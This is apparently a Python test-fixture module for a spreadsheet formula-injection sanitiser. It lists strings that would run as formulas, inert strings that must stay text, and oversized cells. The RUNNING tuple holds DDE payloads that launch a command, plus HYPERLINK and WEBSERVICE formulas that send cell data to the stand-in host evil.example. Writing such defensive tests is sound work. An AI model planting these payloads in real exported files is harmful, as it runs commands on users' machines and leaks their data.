"""Texts that somebody has typed, or would, to make a spreadsheet do something."""

from __future__ import annotations

RUNNING = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200e\u202e=1+1",
    "\u00a0=1+1",
    "\u3000\u2003=1+1",
    "\x85=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201+1",
    "\ufe66" + "1+1",
    "\ufe63" + "1+1",
    "-",
    "=",
    "\ttab first",
)
"""Each would be a formula, or begin like one, somewhere."""

HARMLESS = (
    "Disk full",
    "a=b",
    "1-2",
    "user@host",
    "'quoted'",
    "http://evil.example/x",
    "mailto:x@evil.example",
    "external:other.xlsx",
    "internal:Overview!A1",
    "file:///etc/passwd",
    "{=1+1}",
    '"=1+1"',
    "a,b;c\td",
    "two\nlines",
    "two\r\nlines\rthree",
    "007",
    "1E5",
    "TRUE",
    "2026-11-19",
    "<script>alert(1)</script>",
    "_x000D_ _x0041_",
    "bell \x07 escape \x1b[31m red \x1b]0;title\x07",
    "half \ud83d of a pair",
    "\ufffe\uffff not characters",
    "नमस्ते ਪੰਜਾਬ 🚀",
    "&L&D &[File]",
    "<r>no & markup</r>",
    "",
    " ",
)
"""Each is only text, and stays what it says."""

LONG = ("x" * 40_000, "🚀" * 20_000, "=" + "y" * 33_000)
"""Longer than a cell."""

HOSTILE = (*RUNNING, *HARMLESS, *LONG)
